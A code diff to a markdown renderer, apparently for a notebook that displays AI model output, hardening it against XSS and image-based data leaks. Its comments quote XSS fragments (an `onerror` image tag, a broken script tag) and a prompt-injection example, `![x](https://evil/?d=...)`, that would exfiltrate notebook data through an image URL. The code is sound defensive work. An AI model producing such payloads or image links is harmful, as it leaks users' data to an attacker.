@@ -21,26 +21,23 @@ const marked = new Marked({
     // (up to the closing tag) through unescaped, flagged `escaped`. So `<code><img/src=x
     // onerror=...></code>` came out as a real <img> (left to the sanitizer) and
     // `<script>a</scr</script>` swallowed text. That text is text like any other: escape it.
-    // Returning false leaves every other text token to marked's own renderer. (Only that inline
-    // text carries `escaped: true`; block text with child tokens never has the flag.)
+    // Only that text: marked escapes other text itself, keeping entities such as `&amp;` and
+    // `&copy;`, which escaping here would show as typed. (Block-level text never has the flag.)
     text(token: Tokens.Text | Tokens.Escape): string | false {
-      const raw = "escaped" in token && token.escaped === true;
-      return raw ? escapeHtml(token.text) : false;
+      return "escaped" in token && token.escaped === true ? escapeHtml(token.text) : false;
     },
     // A remote image in model output would load by itself and could carry notebook data out
     // in its URL (a prompt injection only has to ask for `![x](https://evil/?d=...)`). Show it
     // as a link the user can choose to open; inline `data:` images still render.
     image({ href, text, title }: Tokens.Image): string | false {
-      if (/^\s*data:/i.test(href ?? "")) return false;
+      if (/^\s*data:/i.test(href)) return false;
       const label = escapeHtml(text || title || "image");
-      return `<a href="${escapeHtml(href ?? "")}">\u{1F5BC}\u{FE0F} ${label}</a>`;
+      return `<a href="${escapeHtml(href)}">\u{1F5BC}\u{FE0F} ${label}</a>`;
     },
     code({ text, lang }: Tokens.Code): string {
-      // An indented code block has no `lang` at all, a fence without a language has "".
-      const language = (lang ?? "")
-        .trim()
-        .split(/\s/)[0]
-        .replace(/[^\w+#.-]/g, "");
+      // An indented code block has no `lang` at all, a fence without a language has ""; marked
+      // trims it.
+      const language = (lang ?? "").split(/\s/)[0].replace(/[^\w+#.-]/g, "");
       const cls = language ? ` class="language-${language}"` : "";
       return `<pre class="ckw-md-code"><code${cls}>${escapeHtml(text.replace(/\n$/, ""))}\n</code></pre>\n`;
     },
